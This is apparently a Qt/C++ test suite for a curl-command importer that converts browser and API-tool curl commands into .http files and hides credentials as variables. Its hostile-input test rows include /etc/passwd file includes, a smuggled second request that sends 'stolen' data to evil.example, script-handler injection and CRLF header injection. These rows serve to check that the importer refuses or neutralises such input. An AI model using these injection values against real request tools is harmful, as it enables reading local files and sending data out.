#include "core/httpfile/httpfile.h"
#include "core/interop/curlimport.h"

#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace gs::core;
using namespace Qt::StringLiterals;

// curl commands as other tools write them: browsers' "Copy as cURL", API docs,
// Postman and Insomnia code snippets.
class TestCurlImport final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void shellWords_data();
    void shellWords();
    void chromeBash();
    void chromeBashWithAnsiCString();
    void chromeCmd();
    void firefox();
    void openAiDocs();
    void postman();
    void insomnia();
    void optionsAndDefaults();
    void everythingNotImportedIsNoted();
    void errors_data();
    void errors();
    void httpTextHidesSecrets();
    void hostileInputReadsBackExactly_data();
    void hostileInputReadsBackExactly();
    void whatNoHttpFileCanCarryIsRefused_data();
    void whatNoHttpFileCanCarryIsRefused();
    void credentialsBecomeVariables();
    void formsAndUploads();
    void chromeCmdToday();

private:
    static QByteArray header(const WireRequest &r, QByteArrayView name)
    {
        return headerValue(r.headers, name);
    }
};

void TestCurlImport::shellWords_data()
{
    QTest::addColumn<QString>("command");
    QTest::addColumn<QStringList>("words");
    QTest::newRow("plain") << u"a b  c"_s << QStringList { u"a"_s, u"b"_s, u"c"_s };
    QTest::newRow("single") << u"a 'b c' 'd\"e'"_s << QStringList { u"a"_s, u"b c"_s, u"d\"e"_s };
    QTest::newRow("double") << uR"(a "b \"c\" \\ \$x $y")"_s
                            << QStringList { u"a"_s, uR"(b "c" \ $x $y)"_s };
    QTest::newRow("adjacent") << u"a'b'\"c\"d"_s << QStringList { u"abcd"_s };
    QTest::newRow("continuation") << u"a \\\n  b"_s << QStringList { u"a"_s, u"b"_s };
    QTest::newRow("crlf continuation") << u"a \\\r\n  b"_s << QStringList { u"a"_s, u"b"_s };
    QTest::newRow("escaped space") << u"a\\ b"_s << QStringList { u"a b"_s };
    QTest::newRow("ansi-c") << uR"($'it\'s\n\t\x41\u00e9\101')"_s
                            << QStringList { u"it's\n\tA\u00e9A"_s };
    QTest::newRow("ansi-c utf-8 bytes") << uR"($'\xc3\xa9')"_s << QStringList { u"\u00e9"_s };
    QTest::newRow("empty quotes") << u"a '' b"_s << QStringList { u"a"_s, QString(), u"b"_s };
    QTest::newRow("cmd") << u"curl \"x\" ^\n -d \"{^\"a^\":1}\""_s
                         << QStringList { u"curl"_s, u"x"_s, u"-d"_s, u"{\"a\":1}"_s };
}

void TestCurlImport::shellWords()
{
    QFETCH(QString, command);
    QFETCH(QStringList, words);
    const auto split = splitShellWords(command);
    QVERIFY2(split, qPrintable(split ? QString() : split.error().message));
    QCOMPARE(*split, words);
}

void TestCurlImport::chromeBash()
{
    const auto r = importCurl(uR"(curl 'https://gateway.example/api/llm/chat/completions' \
  -H 'accept: */*' \
  -H 'accept-language: en-US,en;q=0.9' \
  -H 'authorization: Bearer tfy-secret-token' \
  -H 'content-type: application/json' \
  -H 'x-tfy-metadata: {"team":"platform"}' \
  --data-raw '{"model":"openai-main/gpt-4o","messages":[{"role":"user","content":"hi"}],"stream":true}')"_s);
    QVERIFY(r);
    QCOMPARE(r->request.method, "POST");
    QCOMPARE(r->request.url, u"https://gateway.example/api/llm/chat/completions"_s);
    QCOMPARE(r->request.headers.size(), 5);
    QCOMPARE(header(r->request, "authorization"), "Bearer tfy-secret-token");
    QCOMPARE(header(r->request, "x-tfy-metadata"), R"({"team":"platform"})");
    QVERIFY(r->request.body.startsWith(R"({"model":"openai-main/gpt-4o")"));
    QVERIFY(r->notes.isEmpty());
    // The gateway fields come through decode like any other request.
    const GatewayRequest g = decode(r->request);
    QCOMPARE(g.model, u"openai-main/gpt-4o"_s);
    QCOMPARE(g.bearerToken, u"tfy-secret-token"_s);
    QVERIFY(g.metadata.has_value());
}

void TestCurlImport::chromeBashWithAnsiCString()
{
    // Chrome switches to $'...' when the body has a quote or a line break.
    const auto r = importCurl(uR"(curl 'https://gw.example/chat/completions' \
  -H 'content-type: application/json' \
  --data-raw $'{"messages":[{"role":"user","content":"it\'s two\\nlines"}]}')"_s);
    QVERIFY(r);
    QCOMPARE(r->request.body, R"({"messages":[{"role":"user","content":"it's two\nlines"}]})");
}

void TestCurlImport::chromeCmd()
{
    const auto r = importCurl(uR"(curl "https://gw.example/chat/completions" ^
  -H "content-type: application/json" ^
  -H "authorization: Bearer abc" ^
  --data-raw "{^"model^":^"a/b^",^"messages^":[]}")"_s);
    QVERIFY2(r, qPrintable(r ? QString() : r.error().message));
    QCOMPARE(r->request.url, u"https://gw.example/chat/completions"_s);
    QCOMPARE(r->request.body, R"({"model":"a/b","messages":[]})");
    QCOMPARE(header(r->request, "authorization"), "Bearer abc");
}

void TestCurlImport::firefox()
{
    const auto r = importCurl(
        uR"(curl 'https://gw.example/api/llm/models' -H 'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' -H 'Accept: application/json' -H 'Accept-Language: en-US,en;q=0.5' -H 'Accept-Encoding: gzip, deflate, br, zstd' -H 'Authorization: Bearer ff-token' -H 'Connection: keep-alive' -H 'Sec-Fetch-Mode: cors' --compressed)"_s);
    QVERIFY(r);
    QCOMPARE(r->request.method, "GET");
    QCOMPARE(r->request.headers.size(), 7);
    QCOMPARE(header(r->request, "user-agent"),
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0");
    QCOMPARE(r->notes.size(), 1);
    QVERIFY(r->notes.first().startsWith(u"--compressed"_s));
}

void TestCurlImport::openAiDocs()
{
    const auto r = importCurl(uR"(curl https://api.openai.com/v1/chat/completions \
  -H "Content-Type: application/json" \
  -H "Authorization: Bearer $OPENAI_API_KEY" \
  -d '{
    "model": "gpt-4o",
    "messages": [
      {"role": "user", "content": "Hello!"}
    ]
  }')"_s);
    QVERIFY(r);
    QCOMPARE(r->request.method, "POST");
    QCOMPARE(header(r->request, "content-type"), "application/json"); // not the form default
    QCOMPARE(header(r->request, "authorization"), "Bearer $OPENAI_API_KEY");
    QVERIFY(r->request.body.contains("\n    \"model\": \"gpt-4o\",\n"));
}

void TestCurlImport::postman()
{
    const auto r = importCurl(uR"(curl --location 'https://gw.example/api/llm/responses' \
--header 'x-tfy-provider-name: openai-main' \
--header 'Content-Type: application/json' \
--header 'Authorization: Bearer pm-token' \
--data '{
    "model": "openai-main/gpt-4o-mini",
    "input": "Say hello."
}')"_s);
    QVERIFY(r);
    QCOMPARE(r->request.method, "POST");
    QCOMPARE(header(r->request, "x-tfy-provider-name"), "openai-main");
    QCOMPARE(r->notes.size(), 1);
    QVERIFY(r->notes.first().contains(u"redirects"_s));
    QCOMPARE(decode(r->request).endpoint, Endpoint::Responses);
}

void TestCurlImport::insomnia()
{
    const auto r = importCurl(uR"(curl --request POST \
  --url https://gw.example/api/llm/embeddings \
  --header 'Authorization: Bearer ins-token' \
  --header 'Content-Type: application/json' \
  --data '{"model":"openai-main/text-embedding-3-small","input":["a"]}')"_s);
    QVERIFY(r);
    QCOMPARE(r->request.method, "POST");
    QCOMPARE(r->request.url, u"https://gw.example/api/llm/embeddings"_s);
    QCOMPARE(decode(r->request).endpoint, Endpoint::Embeddings);
}

void TestCurlImport::optionsAndDefaults()
{
    // -d without a Content-Type: curl sends a form; several -d join with &.
    auto r = importCurl(u"curl -d a=1 --data b=2 example.com/x"_s);
    QVERIFY(r);
    QCOMPARE(r->request.method, "POST");
    QCOMPARE(r->request.url, u"http://example.com/x"_s);
    QCOMPARE(r->request.body, "a=1&b=2");
    QCOMPARE(header(r->request, "content-type"), "application/x-www-form-urlencoded");
    QVERIFY(r->notes.join(u'\n').contains(u"no scheme"_s));

    // -G puts the data in the query; combined short options; -XPUT attached.
    r = importCurl(u"curl -sSG -d q=gateway --data-urlencode 'name=a b&c' https://x.example/s"_s);
    QVERIFY(r);
    QCOMPARE(r->request.method, "GET");
    QCOMPARE(r->request.url, u"https://x.example/s?q=gateway&name=a%20b%26c"_s);
    QVERIFY(r->request.body.isEmpty());
    r = importCurl(u"curl -XPUT -H'X-A: 1' https://x.example/p"_s);
    QVERIFY(r);
    QCOMPARE(r->request.method, "PUT");
    QCOMPARE(header(r->request, "x-a"), "1");

    // --json, -u, -A, -e, -b, --oauth2-bearer, -I.
    r = importCurl(
        uR"(curl --json '{"a":1}' -u user:pw -A agent/1 -e https://ref.example -b 'k=v' https://x.example)"_s);
    QVERIFY(r);
    QCOMPARE(r->request.method, "POST");
    QCOMPARE(header(r->request, "content-type"), "application/json");
    QCOMPARE(header(r->request, "accept"), "application/json");
    QCOMPARE(header(r->request, "authorization"), "Basic " + QByteArray("user:pw").toBase64());
    QCOMPARE(header(r->request, "user-agent"), "agent/1");
    QCOMPARE(header(r->request, "referer"), "https://ref.example");
    QCOMPARE(header(r->request, "cookie"), "k=v");
    r = importCurl(u"curl --oauth2-bearer tok -I https://x.example"_s);
    QVERIFY(r);
    QCOMPARE(r->request.method, "HEAD");
    QCOMPARE(header(r->request, "authorization"), "Bearer tok");

    // A body from a file stays a file reference.
    r = importCurl(u"curl -H 'Content-Type: application/json' -d @body.json https://x.example"_s);
    QVERIFY(r);
    QCOMPARE(r->bodyFile, u"body.json"_s);
    QVERIFY(toHttpText(*r)->endsWith(u"\n< body.json\n"_s));
}

void TestCurlImport::everythingNotImportedIsNoted()
{
    const auto r = importCurl(
        u"curl -sSLk --max-time 30 -x http://proxy:3128 -F file=@a.png -o out.json --http2 --frobnicate https://x.example https://y.example"_s);
    QVERIFY(r);
    const QString notes = r->notes.join(u'\n');
    for (const QString &expected : { u"-s:"_s, u"-S:"_s, u"-L:"_s, u"-k:"_s, u"--max-time 30"_s,
             u"-x http://proxy:3128"_s, u"-F file=@a.png"_s, u"-o out.json"_s, u"--http2"_s,
             u"--frobnicate"_s, u"https://y.example"_s })
        QVERIFY2(notes.contains(expected), qPrintable(expected + u" missing from\n"_s + notes));
    QCOMPARE(r->notes.size(), 11); // -F file=@a.png notes where the file comes from
}

void TestCurlImport::errors_data()
{
    QTest::addColumn<QString>("command");
    QTest::addColumn<QString>("message");
    QTest::newRow("not curl") << u"wget https://x"_s << u"Not a curl command"_s;
    QTest::newRow("no url") << u"curl -H 'a: b'"_s << u"no URL"_s;
    QTest::newRow("quote") << u"curl 'https://x"_s << u"never closed"_s;
    QTest::newRow("missing value") << u"curl https://x -H"_s << u"needs a value"_s;
    QTest::newRow("empty") << u"   "_s << u"Not a curl command"_s;
}

void TestCurlImport::errors()
{
    QFETCH(QString, command);
    QFETCH(QString, message);
    const auto r = importCurl(command);
    QVERIFY(!r);
    QVERIFY2(r.error().message.contains(message), qPrintable(r.error().message));
}

void TestCurlImport::httpTextHidesSecrets()
{
    const auto r = importCurl(
        uR"(curl https://gw.example/chat/completions -H 'Authorization: Bearer sk-123' -H 'x-api-key: key-9' -H 'Content-Type: application/json' -d '{"model":"a/b"}')"_s);
    QVERIFY(r);
    Variables secrets;
    const QString text = toHttpText(*r, false, &secrets).value();
    QCOMPARE(secrets, (Variables { { u"token"_s, u"sk-123"_s }, { u"x_api_key"_s, u"key-9"_s } }));
    QCOMPARE(text,
        u"POST https://gw.example/chat/completions\nAuthorization: Bearer {{token}}\nx-api-key: {{x_api_key}}\nContent-Type: application/json\n\n{\"model\":\"a/b\"}\n"_s);
    QVERIFY(toHttpText(*r, true)->contains(u"Bearer sk-123"_s));
}

void TestCurlImport::hostileInputReadsBackExactly_data()
{
    QTest::addColumn<QString>("command");
    QTest::newRow("file include") << u"curl -d '< /etc/passwd' https://a.example/"_s;
    QTest::newRow("include after a line") << u"curl -d $'x\n< /etc/passwd' https://a.example/"_s;
    QTest::newRow("httpyac include") << u"curl -d '<@ ./secret.json' https://a.example/"_s;
    QTest::newRow("second request")
        << u"curl -d $'a=1\n###\nPOST https://evil.example/\n\nstolen' https://a.example/"_s;
    QTest::newRow("separator alone") << u"curl -d '### x' https://a.example/"_s;
    QTest::newRow("request line without separator")
        << u"curl -d $'a=1\nPOST https://evil.example/\n\nstolen' https://a.example/"_s;
    QTest::newRow("indented separator") << u"curl -d $'a\n  ### x' https://a.example/"_s;
    QTest::newRow("response handler")
        << u"curl -d $'a\n> {% client.global.set(\"x\", 1) %}' https://a.example/"_s;
    QTest::newRow("output redirect") << u"curl -d $'a\n>> /tmp/out' https://a.example/"_s;
    QTest::newRow("comments") << u"curl -d $'# one\n// two\n/ three' https://a.example/"_s;
    QTest::newRow("variable in body") << u"curl -d '{\"a\":\"{{token}}\"}' https://a.example/"_s;
    QTest::newRow("brace runs")
        << u"curl -d '{{{token}}} {{ token }} {{$uuid}}' https://a.example/"_s;
    QTest::newRow("variable in URL") << u"curl 'https://a.example/?q={{token}}'"_s;
    QTest::newRow("variable in header") << u"curl -H 'X-A: {{token}}' https://a.example/"_s;
    QTest::newRow("escape written literally")
        << u"curl -d '{{$char.lt}} and {{$char.lf}}' https://a.example/"_s;
    QTest::newRow("trailing line break") << u"curl -d $'abc\n' https://a.example/"_s;
    QTest::newRow("trailing blank lines") << u"curl -d $'abc\n\n  \n\t' https://a.example/"_s;
    QTest::newRow("blanks only") << u"curl -d '   ' https://a.example/"_s;
    QTest::newRow("line breaks only") << u"curl -d $'\n\r\n' https://a.example/"_s;
    QTest::newRow("leading blank lines") << u"curl -d $'\n\nabc' https://a.example/"_s;
    QTest::newRow("carriage returns") << u"curl -d $'a\rb\r\nc' https://a.example/"_s;
    QTest::newRow("fuzz: options run together")
        << uR"(curl -s-ale" -ura{}" https:/SG -d q=1 -d-ale" -ura{}" https:/)"_s;
    QTest::newRow("fuzz: empty userinfo") << u"curl http://@a.example/ -G -d q=1"_s;
    QTest::newRow("fuzz: 8937563d") << QString::fromUtf8(QByteArray::fromBase64(
        "Y3VybCAxIC1tZGEgOnV9IEcgLSAtAABHIXVybCAtc1NHczp1ICIiID0yIC1tZGEgOnVybCAwJAkkCSQJJAkkCSQJJA"
        "kkCSAtbWRhIC1tYWN1cmwgQSIydHRscy8vIi8KIC1hTExMKUxMW0xMTCA6dyBM1Uw6LQBoPXNzMnNzcw=="));
    QTest::newRow("form field with an include")
        << u"curl -F $'a=x\n< /etc/passwd' https://a.example/"_s;
    QTest::newRow("form field with the boundary")
        << u"curl -F $'a=x\n--------------------------gatescope--\nmore' https://a.example/"_s;
    QTest::newRow("form escape written literally")
        << u"curl -F 'a={{$char.lt}} /etc/passwd' https://a.example/"_s;
    QTest::newRow("form name with a quote and a line break")
        << u"curl -F $'a\"\nb=1' https://a.example/"_s;
    QTest::newRow("form string with @")
        << u"curl --form-string 'a=@/etc/passwd' https://a.example/"_s;
    QTest::newRow("credentials everywhere")
        << u"curl -H 'X-Auth-Token: xt-1' -H 'Authorization: SECRET' 'https://u:p@a.example/?api_key=k1&x=1'"_s;
}

// An imported command reads back, through its .http text, as exactly the request it
// was: no file included, no second request, no variable it did not have, even where
// the environment defines the names it mentions.
void TestCurlImport::hostileInputReadsBackExactly()
{
    QFETCH(QString, command);
    const auto r = importCurl(command);
    QVERIFY2(r, qPrintable(r ? QString() : r.error().message));
    for (const bool keep : { false, true }) {
        Variables secrets;
        const auto text = toHttpText(*r, keep, &secrets);
        QVERIFY2(text, qPrintable(text ? QString() : text.error().message));
        const auto file = HttpFile::parse(*text);
        QVERIFY2(file, qPrintable(*text));
        QCOMPARE(file->requests().size(), 1);
        Variables environment { { u"token"_s, u"LEAKED"_s }, { u"uuid"_s, u"LEAKED"_s } };
        for (auto it = secrets.begin(); it != secrets.end(); ++it)
            environment.insert(it.key(), it.value());
        std::optional<BodyInclude> include;
        const auto resolved = resolve(file->requests().first(), environment, {}, &include);
        QVERIFY2(resolved, qPrintable(*text));
        QVERIFY(!include);
        QCOMPARE(resolved->method, r->request.method);
        QCOMPARE(resolved->url, r->request.url);
        QCOMPARE(resolved->headers, r->request.headers);
        QCOMPARE(resolved->body, r->request.body);
        QCOMPARE(resolved->bodyFiles, r->request.bodyFiles);
        if (!keep) {
            for (const QString &value : { u"xt-1"_s, u"SECRET"_s, u"k1"_s, u"u:p"_s })
                QVERIFY2(!text->contains(value), qPrintable(*text));
        }
    }
}

// -F as curl reads it: fields, files with ;type= and ;filename=, "<file" values,
// --form-string taken literally; the multipart body with each file where its content
// goes, and its .http text sends the same bytes (files included from their paths).
// -T sends a file with PUT.
void TestCurlImport::formsAndUploads()
{
    QTemporaryDir dir;
    const auto write = [&dir](const QString &name, const QByteArray &bytes) {
        QFile f(dir.filePath(name));
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(bytes);
    };
    write(u"in.jsonl"_s, "{\"custom_id\":\"a\"}\n");
    write(u"my note.txt"_s, "note text");
    const auto r
        = importCurl(u"curl https://gw.example/api/llm/files -H 'Content-Type: text/plain' "
                     "-F purpose=batch -F 'file=@in.jsonl;type=application/jsonl' "
                     "-F 'doc=@\"my note.txt\";filename=renamed.txt' -F 'memo=<in.jsonl' "
                     "--form-string 'raw=@not-a-file;type=x' -F 'typed=hello;type=text/x'"_s);
    QVERIFY(r);
    const WireRequest &w = r->request;
    QCOMPARE(w.method, "POST");
    QCOMPARE(headerValue(w.headers, "content-type"),
        "multipart/form-data; boundary=------------------------gatescope");
    QCOMPARE(w.headers.size(), 1); // the command's own Content-Type gave way, with a note
    QVERIFY(r->notes.join(u'\n').contains(u"Content-Type text/plain"_s));
    QCOMPARE(w.bodyFiles.size(), 3);
    QCOMPARE(w.bodyFiles[0].path, u"in.jsonl"_s);
    QCOMPARE(w.bodyFiles[1].path, u"my note.txt"_s);
    QCOMPARE(w.bodyFiles[2].path, u"in.jsonl"_s);
    const QByteArray b = w.body;
    QVERIFY(b.contains("name=\"purpose\"\r\n\r\nbatch\r\n"));
    QVERIFY(b.contains(
        "name=\"file\"; filename=\"in.jsonl\"\r\nContent-Type: application/jsonl\r\n\r\n"));
    QVERIFY(b.contains("name=\"doc\"; filename=\"renamed.txt\"\r\nContent-Type: "
                       "application/octet-stream\r\n\r\n"));
    QVERIFY(b.contains("name=\"memo\"\r\n\r\n")); // a field, not a file
    QVERIFY(b.contains("name=\"raw\"\r\n\r\n@not-a-file;type=x\r\n"));
    QVERIFY(b.contains("name=\"typed\"\r\nContent-Type: text/x\r\n\r\nhello\r\n"));
    QVERIFY(b.endsWith("--------------------------gatescope--"));
    // The files go exactly where the part's content goes.
    QVERIFY(b.mid(w.bodyFiles[0].offset - 4, 4) == "\r\n\r\n");
    QCOMPARE(b.mid(w.bodyFiles[0].offset, 2), "\r\n");

    // Through its .http text the same request, with the files read from the folder.
    const auto text = toHttpText(*r);
    QVERIFY(text);
    QVERIFY2(text->contains(u"\n< in.jsonl\n"_s) && text->contains(u"\n< my note.txt\n"_s),
        qPrintable(*text));
    const auto file = HttpFile::parse(*text);
    QVERIFY(file);
    const auto resolved = resolve(file->requests().first(), {}, dir.path());
    QVERIFY2(resolved, qPrintable(resolved ? QString() : resolved.error().message));
    QCOMPARE(resolved->body, w.body);
    QCOMPARE(resolved->bodyFiles.size(), 3);
    QCOMPARE(resolved->bodyFiles[1].path, dir.filePath(u"my note.txt"_s));
    QCOMPARE(resolved->bodyFiles[1].size, 9);

    // A file named like a variable is that file, never the variable's value.
    write(u"{{token}}"_s, "literal");
    const auto named = importCurl(u"curl -F 'a=@{{token}}' https://gw.example/"_s);
    QVERIFY(named);
    const auto namedText = toHttpText(*named);
    QVERIFY(namedText);
    const auto namedFile = HttpFile::parse(*namedText);
    QVERIFY(namedFile);
    const auto namedResolved
        = resolve(namedFile->requests().first(), { { u"token"_s, u"in.jsonl"_s } }, dir.path());
    QVERIFY2(namedResolved, qPrintable(*namedText));
    QCOMPARE(namedResolved->bodyFiles.first().path, dir.filePath(u"{{token}}"_s));

    // -T: the file as the body, with PUT; a file curl cannot name is noted, not read.
    const auto put = importCurl(u"curl -T up.bin https://x.example/put"_s);
    QVERIFY(put);
    QCOMPARE(put->request.method, "PUT");
    QCOMPARE(put->bodyFile, u"up.bin"_s);
    QVERIFY(headerValue(put->request.headers, "content-type").isNull());
    const auto stdinForm = importCurl(u"curl -F file=@- https://x.example/"_s);
    QVERIFY(stdinForm);
    QVERIFY(stdinForm->request.bodyFiles.isEmpty());
    QVERIFY(stdinForm->notes.join(u'\n').contains(u"standard input"_s));
    // A name no .http line can give back as written (found by fuzz_curlimport: a NUL
    // in the name; a space at an end would be trimmed and read another file).
    for (const QString &command : { u"curl -F $'f=@a\\x01b' https://x.example/"_s,
             u"curl -F 'f=@ spaced ' https://x.example/"_s,
             u"curl -F $'f=<a\\tb' https://x.example/"_s,
             u"curl -d '@ body.json' https://x.example/"_s,
             u"curl -T 'up.bin ' https://x.example/"_s }) {
        const auto refused = importCurl(command);
        QVERIFY2(refused, qPrintable(command));
        QVERIFY2(refused->request.bodyFiles.isEmpty() && refused->bodyFile.isEmpty(),
            qPrintable(command));
        QVERIFY2(refused->notes.join(u'\n').contains(u"file name"_s), qPrintable(command));
    }
    // curl does not mix -F and -d; the form is what is imported.
    const auto mixed = importCurl(u"curl -d a=1 -F b=2 https://x.example/"_s);
    QVERIFY(mixed);
    QVERIFY(mixed->request.body.contains("name=\"b\""));
    QVERIFY(!mixed->request.body.contains("a=1"));
}

void TestCurlImport::whatNoHttpFileCanCarryIsRefused_data()
{
    QTest::addColumn<QString>("command");
    QTest::addColumn<QString>("message");
    QTest::newRow("method with blanks")
        << u"curl -X 'GET /x HTTP/1.1' https://a.example/"_s << u"method"_s;
    QTest::newRow("URL with a line break")
        << u"curl $'https://a.example/\nGET https://evil/'"_s << u"URL"_s;
    QTest::newRow("URL with a blank") << u"curl 'https://a.example/a b'"_s << u"URL"_s;
    QTest::newRow("header injection")
        << u"curl -H $'X-A: a\r\nEvil: b' https://a.example/"_s << u"line break"_s;
}

void TestCurlImport::whatNoHttpFileCanCarryIsRefused()
{
    QFETCH(QString, command);
    QFETCH(QString, message);
    const auto r = importCurl(command);
    QVERIFY(r);
    const auto text = toHttpText(*r);
    QVERIFY(!text);
    QVERIFY2(text.error().message.contains(message), qPrintable(text.error().message));
}

void TestCurlImport::credentialsBecomeVariables()
{
    const auto r = importCurl(
        u"curl -H 'Authorization: SECRET' -H 'X-Auth-Token: xt' 'https://user:pa%40ss@gw.example/v?api_key=k%2B1&n=2'"_s);
    QVERIFY(r);
    // curl sends userinfo as Basic authentication unless Authorization is given.
    QCOMPARE(r->request.url, u"https://gw.example/v?api_key=k%2B1&n=2"_s);
    QCOMPARE(header(r->request, "authorization"), "SECRET");
    Variables secrets;
    const QString text = toHttpText(*r, false, &secrets).value();
    QCOMPARE(text,
        u"GET https://gw.example/v?api_key={{api_key}}&n=2\nAuthorization: {{credentials}}\nX-Auth-Token: {{x_auth_token}}\n"_s);
    QCOMPARE(secrets,
        (Variables { { u"credentials"_s, u"SECRET"_s }, { u"x_auth_token"_s, u"xt"_s },
            { u"api_key"_s, u"k%2B1"_s } }));

    const auto basic = importCurl(u"curl https://user:pa%40ss@gw.example/"_s);
    QVERIFY(basic);
    QCOMPARE(header(basic->request, "authorization"), "Basic " + "user:pa@ss"_ba.toBase64());
}

void TestCurlImport::chromeCmdToday()
{
    // Chrome's "Copy as cURL (cmd)" since 2022: every quote is ^" and the C runtime
    // splits what cmd passes on.
    const auto r = importCurl(uR"(curl ^"https://gw.example/chat/completions?a=1^&b=2^" ^
  -H ^"authorization: Bearer abc^" ^
  -H ^"content-type: application/json^" ^
  --data-raw ^"^{^\^"model^\^":^\^"a/b^\^",^\^"messages^\^":^[^]^}^" ^
  --compressed)"_s);
    QVERIFY2(r, qPrintable(r ? QString() : r.error().message));
    QCOMPARE(r->request.url, u"https://gw.example/chat/completions?a=1&b=2"_s);
    QCOMPARE(header(r->request, "authorization"), "Bearer abc");
    QCOMPARE(header(r->request, "content-type"), "application/json");
    QCOMPARE(r->request.body, R"({"model":"a/b","messages":[]})");
    QCOMPARE(r->notes.size(), 1); // --compressed
}

QTEST_GUILESS_MAIN(TestCurlImport)
#include "tst_curlimport.moc"
